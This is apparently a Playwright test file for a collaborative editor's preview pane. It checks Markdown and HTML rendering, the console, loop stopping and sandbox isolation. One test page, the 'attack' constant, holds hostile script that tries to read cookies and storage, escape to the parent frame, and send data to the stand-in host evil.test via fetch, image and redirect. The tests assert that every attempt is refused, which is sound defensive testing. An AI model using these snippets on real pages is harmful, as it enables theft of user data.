import type { Browser, BrowserContextOptions, Page } from "@playwright/test";
import { corpus } from "../../app/test/xss.ts";
import { expect, Person, test } from "../support/test.ts";

/** Makes a room that has files besides its first one, through the client's own protocol. */
async function withFiles(page: Page, url: string, files: Record<string, string>): Promise<string> {
  await page.goto(url);
  return page.evaluate(async (texts) => {
    const made = (await (await fetch("/api/v1/rooms", { method: "POST", body: JSON.stringify({ language: "python" }) })).json()) as { room: string; key: string };
    const socket = new WebSocket(`ws://${location.host}/api/v1/rooms/${made.room}/socket`);
    await new Promise((done) => (socket.onopen = done));
    socket.send(JSON.stringify({ t: "join", protocol: 1, client: "filesmaker", name: "Maker", color: 1 }));
    let base = 0;
    let seq = 0;
    let next: (() => void) | undefined;
    socket.onmessage = ({ data }: MessageEvent<string>) => {
      for (const line of data.split("\n")) {
        const m = JSON.parse(line) as { t: string; version: number; seq?: number };
        if (m.t === "joined" || m.t === "event") base = m.version;
        if (m.t === "joined" || (m.t === "event" && m.seq === seq)) next?.();
      }
    };
    await new Promise<void>((done) => (next = done));
    for (const [name, text] of Object.entries(texts)) {
      const came = new Promise<void>((done) => (next = done));
      seq++;
      socket.send(JSON.stringify({ t: "batch", seq, base, body: { kind: "create", file: `file${String(seq).padStart(6, "0")}`, name, text } }));
      await came;
    }
    socket.close();
    return `/r/${made.room}#${made.key}`;
  }, files);
}

async function preview(who: Person, link: string): Promise<void> {
  await who.open(link);
  await who.page.getByRole("tab", { name: "Preview" }).click();
}

const output = (page: Page) => page.getByRole("list", { name: "Console" });

/** Somebody whose page is not watched: errors of a previewed page, and what the policy refuses to attacks, are wanted here. */
async function visitor(browser: Browser, options: BrowserContextOptions = {}): Promise<Person> {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, ...options });
  return new Person(await context.newPage(), context);
}

test("Markdown is shown as it looks, follows what is typed, and can do nothing (XSS corpus)", async ({ server, browser }) => {
  const ann = await visitor(browser, { colorScheme: "dark" });
  const text = [
    "# A title", "Some *emphasis*, `code` and https://example.org/x.", "", "- [x] done", "- [ ] not yet", "", "| a | b |", "|---|---|", "| 1 | 2 |", "",
    "```python", "def f(): return 'x'", "```", "", "[below](#the-end) [notes](docs/notes.md) [nowhere](nowhere.md)", "![a circle](circle.svg) ![far](https://evil.test/x.png)", "",
    ...Array.from({ length: 60 }, (_, i) => `Line ${i}\n`), "## The end", "",
  ].join("\n");
  const link = await withFiles(ann.page, server.url, {
    "README.md": text,
    "docs/notes.md": "# Notes\n\n[back](../README.md)\n",
    "circle.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="20" cy="20" r="18" fill="teal"/></svg>',
    // In both orders, for some of it hides what comes after it.
    "attack.md": ["# Attacks", ...corpus].join("\n\n"),
    "again.md": ["# Attacks again", ...corpus.toReversed()].join("\n\n"),
  });
  await preview(ann, `${server.url}${link}`);
  const shown = ann.page.locator(".markdown");
  await expect(shown.getByRole("heading", { name: "A title" })).toBeVisible();
  await expect(shown.locator("input[type=checkbox]:disabled")).toHaveCount(2);
  await expect(shown.locator("table td").first()).toHaveText("1");
  await expect(shown.locator("pre code span").first()).toBeAttached();
  await expect(shown.locator("pre code")).toHaveText("def f(): return 'x'\n");
  await expect(shown.getByRole("link", { name: "https://example.org/x" })).toHaveAttribute("rel", "noopener noreferrer");
  await expect(shown.locator("img")).toHaveCount(1);
  expect(await shown.locator("img").evaluate((i: HTMLImageElement) => i.complete && i.naturalWidth)).toBe(40);
  await expect(shown.getByText("Image: far")).toBeVisible();
  await ann.accessible();
  await ann.picture("preview-markdown-dark");
  await shown.getByRole("link", { name: "below" }).click();
  await expect(shown.getByRole("heading", { name: "The end" })).toBeInViewport();
  const before = await shown.evaluate((e) => e.scrollTop);
  expect(before).toBeGreaterThan(100);

  // Follows what is typed; where one reads stays in view.
  const openFile = async (name: string): Promise<void> => {
    await ann.page.keyboard.press("ControlOrMeta+P");
    await expect(ann.page.getByRole("searchbox")).toBeFocused();
    await ann.page.keyboard.type(name);
    await expect(ann.page.getByRole("option").first()).toContainText(name);
    await ann.page.keyboard.press("Enter");
    await expect(ann.page.getByRole("tab", { name: new RegExp(name), selected: true })).toBeVisible();
  };
  await openFile("README");
  await expect(ann.editor).toContainText("Line 3");
  await ann.editor.click();
  await ann.page.keyboard.press("ControlOrMeta+End");
  await ann.page.keyboard.type("typed at the end");
  await expect(shown).toContainText("typed at the end");
  expect(await shown.evaluate((e) => e.scrollTop)).toBe(before);
  await shown.getByRole("link", { name: "notes" }).click();
  await expect(shown.getByRole("heading", { name: "Notes" })).toBeVisible();
  await ann.editor.click();
  await ann.page.keyboard.press("ControlOrMeta+End");
  await ann.page.keyboard.type("## Typed now");
  await expect(shown.getByRole("heading", { name: "Typed now" })).toBeVisible();

  // Nothing of the corpus lives.
  await shown.getByRole("link", { name: "back" }).click();
  await expect(shown.getByRole("heading", { name: "A title" })).toBeVisible();
  for (const [file, title] of [["attack", "Attacks"], ["again", "Attacks again"]] as const) {
    await openFile(file);
    await expect(shown.getByRole("heading", { name: title, exact: true })).toBeVisible();
    const { names, attributes, links } = await shown.evaluate((root) => {
      const all = [...root.querySelectorAll("*")];
      return {
        names: [...new Set(all.map((e) => e.localName))],
        attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))],
        links: all.flatMap((e) => [e.getAttribute("href") ?? "", e.getAttribute("src") ?? ""]).filter((s) => s !== ""),
      };
    });
    for (const bad of ["script", "iframe", "svg", "math", "form", "object", "embed", "style", "link", "meta", "base", "button", "video", "template"]) expect(names).not.toContain(bad);
    for (const name of attributes) expect(["href", "src", "alt", "title", "target", "rel", "data-file", "class", "align", "open", "disabled", "type", "checked", "aria-label"]).toContain(name);
    for (const address of links) expect(address).toMatch(/^(#|https?:|mailto:|data:image\/)/);
  }
  expect(await ann.page.evaluate(() => "pwned" in window)).toBe(false);
  await ann.context.close();
});

test("a page of the room's HTML, CSS and JavaScript files, for two people, with its console", async ({ server, browser }) => {
  const ann = await visitor(browser);
  const link = await withFiles(ann.page, server.url, {
    "site/index.html": [
      "<!doctype html><html lang='en'><head><title>x</title>", '<link rel="stylesheet" href="css/look.css"></head><body><main>', '<h1 id="title">Hello</h1><p id="count">0</p><img alt="dot" src="../dot.svg">',
      '<a href="other.html">other</a>', '<script src="js/first.js"></script>', '<script type="module" src="js/main.js"></script>', "</main></body></html>",
    ].join("\n"),
    "site/other.html": "<h1>The other page</h1><a href='index.html'>back</a>",
    "site/css/look.css": "@import 'more.css';\nh1 { color: rgb(200, 0, 0) }\nbody { background: url(../../dot.svg) }",
    "site/css/more.css": "p { font-weight: 700 }",
    "site/js/first.js": "console.log('first', { a: [1, 'two'] }); alert('</script> is text');",
    "site/js/main.js": "import { count } from './lib/count.js';\ndocument.getElementById('count').textContent = count();\nfetch('../data.json').then((r) => r.json()).then((d) => console.info('data', d.value)).then(() => { throw new Error('planned'); });",
    "site/js/lib/count.js": "import { one } from '../one.js';\nexport const count = () => one + 41;\nif (import.meta.url === '') console.log('never');",
    "site/js/one.js": "export const one = 1;\nexport default function () {}\nconsole.warn('one is loaded');\n\nsetTimeout(() => nothere(), 50);",
    "data.json": '{"value": 42}',
    "site/data.json": '{"value": 43}',
    "dot.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
  });
  await preview(ann, `${server.url}${link}`);
  const ben = await visitor(browser);
  await preview(ben, `${server.url}${link}`);
  for (const who of [ann, ben]) {
    const page = who.page.frameLocator("iframe.preview-frame");
    await expect(page.locator("#count")).toHaveText("42");
    expect(await page.locator("h1").evaluate((e) => getComputedStyle(e).color)).toBe("rgb(200, 0, 0)");
    expect(await page.locator("p").evaluate((e) => getComputedStyle(e).fontWeight)).toBe("700");
    await expect.poll(() => page.locator("img").evaluate((i: HTMLImageElement) => i.naturalWidth)).toBe(9);
    const lines = output(who.page);
    await expect(lines).toContainText('first { a: [1, "two"] }');
    await expect(lines).toContainText("alert: </script> is text");
    await expect(lines).toContainText("data 42");
    await expect(lines).toContainText("Unhandled rejection: Error: planned");
    await expect(lines).toContainText("one is loaded");
  }
  // An error leads to its line.
  await output(ann.page).getByRole("button", { name: "site/js/one.js:5:18" }).click();
  await expect(ann.page.locator(".cm-activeLine")).toHaveText(/nothere/);
  await ann.accessible();
  await ann.picture("preview-html-light");
  await ann.page.frameLocator("iframe.preview-frame").getByRole("link", { name: "other" }).click();
  await expect(ann.page.frameLocator("iframe.preview-frame").getByRole("heading")).toHaveText("The other page");
  // Who types sees it at once, and so does the other one.
  await ann.write("<h1>Typed by Ann</h1><input autofocus><script>document.querySelector('input').focus()</script>");
  await expect(ann.page.frameLocator("iframe.preview-frame").getByRole("heading")).toHaveText("Typed by Ann");
  await expect(ann.editor).toBeFocused();
  await ann.page.keyboard.type("more");
  await expect.poll(() => ann.text()).toMatch(/more$/);
  await Promise.all([ann.context.close(), ben.context.close()]);
});

test("an endless loop does not freeze the room, and can be stopped", async ({ server, person }) => {
  const ann = await person();
  const link = await withFiles(ann.page, server.url, { "index.html": "<p>spinning</p><script>console.log('begins'); setTimeout(() => { for (;;); }, 100)</script>" });
  await preview(ann, `${server.url}${link}`);
  await expect(output(ann.page)).toContainText("begins");
  await expect(ann.page.getByText("The page does not answer")).toBeVisible();
  // Keys and clicks of the DevTools protocol wait for every process of the page, the one that loops included; what runs in the
  // room's own process does not.
  const ben = await person();
  await ben.open(`${server.url}${link}`);
  await ben.type("<p>from Ben</p>");
  await expect(ann.editor).toContainText("from Ben");
  await ann.page.getByRole("button", { name: "Stop it" }).evaluate((button: HTMLElement) => button.click());
  await expect(ann.page.getByText("The page is stopped.")).toBeVisible();
  await expect(ann.page.locator("iframe.preview-frame")).toHaveCount(0);
});

const attack = `<p id="p">attack</p><form id="f" action="/api/v1/rooms" method="post"><input name="a"></form><script>
const tried = {};
const attempt = (name, f) => { try { const r = f(); tried[name] = r === undefined ? 'nothing' : String(r); } catch (e) { tried[name] = 'refused: ' + e.name; } };
attempt('origin', () => location.origin + ' ' + self.origin);
attempt('cookie', () => document.cookie);
attempt('set cookie', () => { document.cookie = 'stolen=1'; });
attempt('storage', () => localStorage.length);
attempt('session storage', () => sessionStorage.length);
attempt('databases', () => indexedDB.open('x'));
attempt('parent document', () => parent.document.title);
attempt('parent variable', () => { parent.pwned = 1; });
attempt('top navigation', () => { top.location.href = 'https://evil.test/'; });
attempt('top replace', () => { top.location.replace('/stolen'); });
attempt('popup', () => open('https://evil.test/') === null ? 'null' : 'open');
attempt('form', () => { document.getElementById('f').submit(); });
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['']))); });
attempt('service worker', () => navigator.serviceWorker.register('/x.js'));
attempt('beacon', () => navigator.sendBeacon('/api/v1/rooms', '{}'));
attempt('socket', () => { new WebSocket('ws://' + location.host + '/api/v1/rooms/x/socket'); });
attempt('image', () => { new Image().src = 'https://evil.test/leak.png'; });
attempt('frame', () => { const f = document.createElement('iframe'); f.src = '/api/v1/me'; document.body.append(f); });
attempt('script', () => { const s = document.createElement('script'); s.src = '/theme.js'; document.body.append(s); });
attempt('style', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = 'https://evil.test/x.css'; document.head.append(s); });
attempt('messages', () => { for (const m of [{ preview: 'open', name: '../../etc' }, { preview: 'line', level: 'error', text: '<img src=x onerror=top.pwned=1>' }, { preview: 'scroll', top: 'x' }, null, 'preview: ready']) parent.postMessage(m, '*'); });
(async () => {
  // A fetch that the preview's own script has not replaced, if an empty frame has one to give.
  let untouched = fetch;
  try {
    const empty = document.createElement('iframe');
    document.body.append(empty);
    untouched = empty.contentWindow.fetch.bind(empty.contentWindow);
  } catch (e) { tried['empty frame'] = 'refused: ' + e.name; }
  for (const [name, address] of [['fetch own', new URL('/api/v1/me', 'http://' + location.host).href], ['fetch other', 'https://evil.test/']]) {
    tried[name] = await untouched(address, { credentials: 'include' }).then((r) => 'answered ' + r.status, (e) => 'refused: ' + e.name);
  }
  tried.xhr = await new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done('answered'); x.onerror = () => done('refused'); x.open('GET', '/api/v1/me'); x.send(); });
  console.log('TRIED ' + JSON.stringify(tried));
  location.href = 'https://evil.test/?leak=' + document.body.textContent.length;
})();
</script>`;

test("what a previewed page may not do", async ({ server, browser }) => {
  // A person without the watch: it counts refusals of the security policy as errors, and here they are what is wanted.
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const ann = new Person(await context.newPage(), context);
  const requests: string[] = [];
  const outside: string[] = [];
  const popups: string[] = [];
  const link = await withFiles(ann.page, server.url, { "index.html": attack });
  context.on("request", (request) => requests.push(`${request.method()} ${request.url()}`));
  // What the policy refuses is told, too, as a request that has failed for that reason before it went anywhere.
  context.on("response", (response) => outside.push(response.url()));
  context.on("requestfailed", (request) => request.failure()?.errorText !== "csp" && outside.push(`${request.url()} ${request.failure()?.errorText ?? ""}`));
  context.on("page", (page) => popups.push(page.url()));
  await preview(ann, `${server.url}${link}`);
  const line = output(ann.page).getByText(/^TRIED /);
  await expect(line).toBeVisible();
  const tried = JSON.parse(((await line.textContent()) ?? "").replace(/^TRIED /, "")) as Record<string, string>;
  expect(tried["origin"]).toMatch(/ null$/);
  for (const name of ["cookie", "set cookie", "storage", "session storage", "parent document", "parent variable", "service worker"]) expect(tried[name], name).toMatch(/^refused: /);
  for (const name of ["fetch own", "fetch other"]) expect(tried[name], name).toMatch(/^refused: /);
  expect(tried["popup"]).toBe("null");
  expect(tried["xhr"]).toBe("refused");
  // The page of the room is still itself, and works.
  expect(ann.page.url()).toContain(link.split("#")[0] ?? "");
  await ann.type("# fine");
  await ann.sees(/# fine$/);
  expect(await ann.page.evaluate(() => "pwned" in window)).toBe(false);
  expect((await context.cookies()).map((c) => c.name)).toEqual(["codecollab"]);
  expect(popups).toEqual([]);
  const asked = requests.filter((r) => !r.includes(" data:") && !r.includes(" blob:"));
  expect(outside.filter((r) => r.includes("evil.test"))).toEqual([]);
  expect(asked.filter((r) => /stolen|\/x\.js|POST .*\/rooms$|\/rooms\/x\//.test(r))).toEqual([]);
  const frames = ann.page.frames().map((f) => f.url());
  expect(frames.filter((u) => u.includes("evil.test") && !u.startsWith("chrome-error"))).toEqual([]);
  await context.close();
});

test("a preview opened by itself is as powerless", async ({ server, browser }) => {
  const page = await browser.newPage();
  await page.goto(`${server.url}/preview`);
  expect(await page.evaluate(() => self.origin)).toBe("null");
  expect(await page.evaluate(() => Promise.resolve().then(() => localStorage.length).catch((e: Error) => e.name))).toBe("SecurityError");
  await page.close();
});

test("German, on a phone", async ({ server, person }) => {
  const ann = await person({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true, locale: "de-DE" });
  const link = await withFiles(ann.page, server.url, { "LIES.md": "# Überschrift\n\n- eins\n- zwei\n" });
  await ann.page.goto(`${server.url}${link}`);
  await ann.page.getByRole("navigation", { name: "Ansichten" }).getByRole("button", { name: "Mehr" }).click();
  await ann.page.getByRole("menuitem", { name: /Vorschau/ }).click();
  await expect(ann.page.getByRole("heading", { name: "Überschrift" })).toBeVisible();
  await ann.accessible();
  await ann.picture("preview-phone");
});
